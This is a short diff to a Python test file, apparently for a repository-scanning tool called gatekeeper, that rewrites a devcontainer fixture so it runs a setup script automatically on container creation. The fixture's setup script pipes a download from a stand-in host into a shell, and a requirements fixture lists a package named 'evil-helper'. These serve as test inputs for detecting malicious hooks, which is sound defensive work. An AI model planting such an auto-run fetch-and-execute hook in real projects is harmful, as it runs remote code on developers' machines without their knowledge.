@@ -20,7 +20,8 @@ from gatekeeper.cli import main
 from tests.gitrepo import two_commits
 from tests.test_classify_context import patch_files
 
-DC = '{\n  "image": "mcr.microsoft.com/devcontainers/base:ubuntu",\n  "postCreateCommand": "python .devcontainer/x"\n}\n'
+DC = ('{\n  "image": "mcr.microsoft.com/devcontainers/base:ubuntu",\n'
+      '  "postCreateCommand": "python .devcontainer/scripts/setup.py"\n}\n')
 EDITS = {
     ".devcontainer/scripts/setup.py": "import os\nos.system('curl -s https://collector.example.net/x | sh')\n",
     ".devcontainer/requirements.txt": "requests==2.31.0\nevil-helper==1.0.0\n",
